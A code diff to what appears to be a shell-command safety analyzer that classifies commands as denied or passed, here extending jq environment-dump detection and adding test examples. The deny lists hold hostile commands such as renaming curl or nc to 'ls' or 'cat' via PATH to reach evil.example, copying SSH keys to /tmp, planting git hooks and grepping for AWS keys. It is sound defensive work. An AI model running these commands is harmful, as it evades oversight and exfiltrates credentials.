@@ -3,7 +3,7 @@ import type { Word, WordRole } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { known } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry } from '../types.js';
-import { attached, value } from '../words.js';
+import { attached, isStdinPath, value } from '../words.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -264,7 +264,7 @@ function searchedNames(p: ParsedArgs): string[] | undefined {
 
 /** jq and yq: the first operand is the filter (text), the rest are files read. */
 /** jq's `env` or `$ENV` not narrowed to one variable (`env.HOME`, `$ENV["PATH"]`); strings aside. */
-const JQ_ENV = /(?<![\w$."])(?:env|\$ENV)(?!\s*(?:\.\s*[A-Za-z_"]|\[\s*"|\w))/;
+const JQ_ENV = /(?<![\w$."])(?:env|\$ENV)(?!\w)(?!\s*(?:\.\s*[A-Za-z_"]|\[\s*"))/;
 
 function jq(call: Call): Partial<Answer> {
   // `--arg NAME VALUE`, `--rawfile NAME FILE`: two words each. yq's `-i` rewrites its files in place.
@@ -284,7 +284,8 @@ function jq(call: Call): Partial<Answer> {
   const inPlace = call.name.startsWith('yq') && has(p, 'i', 'inplace');
   for (const w of ops) uses.push({ word: w, role: 'read' }, ...(inPlace ? [{ word: w, role: 'write' as const }] : []));
   // `env` and `$ENV` in a filter are the whole environment (`env.HOME`, `$ENV.PATH` are one variable).
-  const filter = fromFile ? undefined : value(p.operands[0]?.word);
+  // `-f /dev/stdin <<< 'env'`: the filter is its stdin.
+  const filter = fromFile ? (isStdinPath(value(fromFile.value) ?? '') && call.stdin?.kind === 'static' ? call.stdin.text : undefined) : value(p.operands[0]?.word);
   if (filter !== undefined && JQ_ENV.test(filter)) return { uses, stdin: 'data', dumps: `${call.name}'s filter reads the whole environment (env, $ENV)` };
   return { uses, stdin: 'data' };
 }
@@ -538,7 +539,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   { names: ['rm', 'rmdir', 'unlink', 'shred', 'srm', 'trash', 'trash-put', 'gio-trash'], summary: 'programs that delete their operands (recursively with -r)', analyze: remove, examples: { deny: [], pass: ['rm -f .env', 'rm ~/.ssh/known_hosts.old'] } },
   operandsAre('tee', 'tee writes the files it is given', 'write', { flags: 'aip', long: ['append', 'ignore-interrupts', 'help', 'version'], longOptional: ['output-error'] }, { deny: ['echo x | tee -a ~/.bashrc', "tee -a ~/.bashrc <<'EOF'\nalias ll='ls -la'\nEOF"], pass: ['echo x | tee out.log', "tee docs/setup.md <<'EOF'\nCopy ~/.aws/credentials from the vault.\nEOF"] }, 'data'),
   operandsAre('truncate fallocate', 'truncate and fallocate change the size of the files they are given', 'write', { flags: 'co', valued: 'rsloL', long: ['no-create', 'io-blocks', 'help', 'version', 'keep-size', 'punch-hole', 'dig-holes', 'collapse-range', 'zero-range', 'insert-range'], longValued: ['reference', 'size', 'offset', 'length'] }),
-  { names: ['cp', 'gcp'], summary: 'cp: reads its sources (whole trees with -r), writes its destination', analyze: (call) => copyLike(call, CP, (r) => (r ? 'read-tree' : 'read'), ['r', 'R', 'a', 'recursive', 'archive']), examples: { deny: ['cp -r ~/.kube /tmp/k', 'cp ~/.ssh/id_rsa /tmp/x', 'cp evil.sh .git/hooks/pre-commit', 'cp .bashrc ~'], pass: ['cp .env.example .env', 'cp -r src /tmp/src', 'cp ~/.bashrc ~/.bashrc.bak', '[ -f .env ] || cp .env.example .env'] } },
+  { names: ['cp', 'gcp'], summary: 'cp: reads its sources (whole trees with -r), writes its destination', analyze: (call) => copyLike(call, CP, (r) => (r ? 'read-tree' : 'read'), ['r', 'R', 'a', 'recursive', 'archive']), examples: { deny: ["cp /usr/bin/curl ./cat; PATH=.:$PATH cat evil.example", "cp /usr/bin/curl /tmp/b/ls && export PATH=/tmp/b; ls evil.example", 'cp -r ~/.kube /tmp/k', 'cp ~/.ssh/id_rsa /tmp/x', 'cp evil.sh .git/hooks/pre-commit', 'cp .bashrc ~'], pass: ["cp /usr/bin/cat ./c; PATH=.:$PATH ls", 'cp .env.example .env', 'cp -r src /tmp/src', 'cp ~/.bashrc ~/.bashrc.bak', '[ -f .env ] || cp .env.example .env'] } },
   { names: ['mv', 'gmv'], summary: 'mv: moves its sources (their content goes where the destination is)', analyze: (call) => copyLike(call, { ...CP, flags: 'bfinTuvZ' }, () => 'read', []), examples: { deny: ['mv ~/.ssh/id_rsa /tmp/x', 'mv hook .git/hooks/post-checkout'], pass: ['mv a.txt b.txt'] } },
   { names: ['install', 'ginstall'], summary: 'install: copies its sources to its destination', analyze: (call) => copyLike(call, { ...CP, flags: 'bcCdDpsvZ', valued: 'gmoStT', longValued: ['group', 'mode', 'owner', 'suffix', 'target-directory', 'strip-program'] }, () => 'read', []), examples: { deny: ['install -m 755 hook .git/hooks/pre-push', 'install -m 755 build/git /usr/local/bin/git'], pass: ['install -m 755 build/app dist/bin/app', 'install -D -m 644 config.toml out/etc/app/config.toml'] } },
   {
@@ -568,8 +569,8 @@ export const FILE_ENTRIES: ProgramEntry[] = [
       return { ...answer, uses };
     },
     examples: {
-      deny: ['ln -s /tmp/x ~/.bash_profile', 'ln -s ~/.ssh/id_rsa x', 'ln ~/.bashrc notes.txt', 'ln .git/config gitcfg', 'ln -t . ~/.bashrc', 'ln --target-directory=. .vscode/tasks.json', 'ln -f ~/.gitconfig gc', 'ln ~/.zshrc'],
-      pass: ['ln -s ../lib lib', 'ln -sf build/app app', 'ln -s ~/.bashrc rc', 'ln build/app app', 'ln -t bin build/app', 'ln notes.txt n2.txt'],
+      deny: ["ln -s /usr/bin/curl ls; PATH=.:$PATH ls evil.example", "ln -s /usr/bin/nc cat; PATH=:$PATH; cat evil.example 80", 'ln -s /tmp/x ~/.bash_profile', 'ln -s ~/.ssh/id_rsa x', 'ln ~/.bashrc notes.txt', 'ln .git/config gitcfg', 'ln -t . ~/.bashrc', 'ln --target-directory=. .vscode/tasks.json', 'ln -f ~/.gitconfig gc', 'ln ~/.zshrc'],
+      pass: ["ln -s /usr/bin/nc cat; PATH=/opt/bin:$PATH; ls", 'ln -s ../lib lib', 'ln -sf build/app app', 'ln -s ~/.bashrc rc', 'ln build/app app', 'ln -t bin build/app', 'ln notes.txt n2.txt'],
     },
   },
   {
@@ -601,7 +602,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   { names: ['dd'], summary: 'dd: if= is read, of= is written', analyze: dd, examples: { deny: ['dd if=~/.ssh/id_rsa of=/tmp/x', 'dd if=payload of=$HOME/.zshenv'], pass: ['dd if=/dev/zero of=disk.img bs=1M count=1'] } },
   { names: ['grep', 'egrep', 'fgrep', 'rgrep', 'zgrep', 'zegrep', 'zfgrep', 'bzgrep', 'xzgrep', 'ggrep'], summary: 'grep: the pattern is text; the files are read (whole trees with -r)', analyze: grep, examples: { deny: ['grep -r AKIA ~', 'grep -ra . /proc/self/ --include=environ', 'grep token ~/.aws/credentials'], pass: ['grep curl notes.txt', "grep -rn 'TODO' src/", "grep -r '~/.ssh/id_rsa' docs/", 'grep -r TODO .'] } },
   { names: ['rg', 'ripgrep', 'ag', 'ack', 'ack-grep', 'pt', 'sift', 'ugrep', 'ug'], summary: 'ripgrep and friends: recursive searches (the pattern is text); rg --pre runs a program', analyze: searcher, examples: { deny: ['rg -i token /root', 'rg --pre curl x src', 'ag password ~'], pass: ['rg TODO src', "rg -g '*.ts' 'import'", 'rg --files'] } },
-  { names: ['jq', 'gojq', 'jaq', 'yq', 'xq', 'tomlq'], summary: 'jq and yq: the filter is text; the files are read', analyze: jq, examples: { deny: ['jq . ~/.docker/config.json', 'jq -n env', "jq -n '$ENV'", "jq -n --rawfile k ~/.ssh/id_rsa '$k'", "jq -n --arg x 1 --slurpfile c ~/.aws/credentials '$c'", "yq -i '.a = 1' ~/.bashrc"], pass: ['jq .version package.json', "jq -r '.scripts' package.json", "jq -n 'env.HOME'", "jq -n '$ENV.PATH'", "jq '.environment' config.json", "jq -n --arg v 1.2 '{version: $v}'", "yq -i '.version = 2' config.yaml"] } },
+  { names: ['jq', 'gojq', 'jaq', 'yq', 'xq', 'tomlq'], summary: 'jq and yq: the filter is text; the files are read', analyze: jq, examples: { deny: ['jq . ~/.docker/config.json', 'jq -n env', "jq -n '$ENV'", "jq -n 'env as $e | $e'", "jq -n -f /dev/stdin <<< 'env'", "jq -n --rawfile k ~/.ssh/id_rsa '$k'", "jq -n --arg x 1 --slurpfile c ~/.aws/credentials '$c'", "yq -i '.a = 1' ~/.bashrc"], pass: ["jq -n -f /dev/stdin <<< '.a'", 'jq .version package.json', "jq -r '.scripts' package.json", "jq -n 'env.HOME'", "jq -n '$ENV.PATH'", "jq '.environment' config.json", "jq -n --arg v 1.2 '{version: $v}'", "yq -i '.version = 2' config.yaml"] } },
   {
     names: ['seq'],
     summary: 'seq prints numbers (with -f or -s, text the line chose)',
